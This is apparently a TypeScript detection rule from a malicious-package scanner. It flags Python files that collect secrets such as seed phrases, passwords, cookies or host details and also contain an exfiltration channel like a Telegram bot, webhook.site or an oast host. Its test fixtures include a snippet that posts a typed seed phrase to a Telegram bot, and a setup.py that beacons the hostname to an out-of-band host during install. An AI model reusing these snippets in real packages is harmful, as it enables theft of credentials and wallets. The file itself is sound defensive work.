import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { codeWith, matchInCode, sight } from "./_sight.ts";
import { webhookIn } from "./chat-webhook.ts";
import { outOfBandHostIn } from "./out-of-band-host.ts";

const CHANNELS = [
  "/webhooks/",
  "api.telegram.org/bot",
  "telebot",
  "webhook.site",
  "oast",
  "pipedream",
  "burpcollab",
  "requestbin",
  "ngrok",
  "trycloudflare",
  "dnslog",
  "interact",
  "requestrepo",
  "beeceptor",
] as const;
/** What somebody types in or keeps to themselves, by the names of variables. */
const ASKED =
  /(?<![\w.])(?:input|getpass\.getpass|getpass)\(|\b(?:private_?key|mnemonic|seed_?(?:phrase|words)|secret_?words|passw(?:or)?d|cookies?|credit_?card)\b/i;

export const channelCarriesSecrets: Detector = {
  id: "channel-carries-secrets",
  title: "What is gathered here can leave by a channel of the author's own",
  severity: "high",
  ecosystems: ["pypi"],
  points: 3.4,
  class: "threat",
  group: "gathered-and-channel",
  why: `One file holds a chat webhook, a bot's token or an address at a request-catching service, sends something, and also takes what is
somebody else's: facts about the machine, its files with credentials, the environment, the screen, or passwords and keys that the
user types in. Either alone may be a developer's carelessness; together they are what stealers and phishing are made of.

Bots of one's own that report on one's own machine look the same; they do not belong into a public release.`,
  literals: CHANNELS,
  *detect(tree) {
    for (const file of codeWith(tree, CHANNELS)) {
      if (file.kind !== "python") continue;
      const channel = webhookIn(file) ?? outOfBandHostIn(file);
      if (channel === undefined || deedsOf(file, "upload", "http", "dns", "send").length === 0) continue;
      const taken = takenIn(file);
      if (taken !== undefined)
        yield sight(file, channel.index, `${taken} and ${channel[0].slice(0, 40)}… are in one file`);
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py": `import requests\nT = '50987650321:AA${"bC3_".repeat(8)}x'\nwords = input('seed phrase: ')\nrequests.post(f'https:/' + f'/api.telegram.org/bot{T}/sendMessage', json={'text': words})\n`,
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py": `import requests\nT = '50987650321:AA${"bC3_".repeat(8)}x'\nrequests.post(f'https:/' + f'/api.telegram.org/bot{T}/sendMessage', json={'text': 'up'})\n`,
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            "import socket, urllib.request as u\nh = socket.gethostname()\nd = {'a': h}\nu.urlopen('https:/' + '/x1y2z3.oast.fun/?' + str(d))\n# 'x1y2z3.oast.fun'\nH = 'x1y2z3.oast.fun'\n",
        },
      },
    ],
  },
};

function takenIn(file: SourceFile): string | undefined {
  const deed = deedsOf(file, "environment", "secret-file", "screen", "keys", "clipboard", "host-fact")[0];
  return deed?.what ?? matchInCode(file, ASKED)?.[0];
}
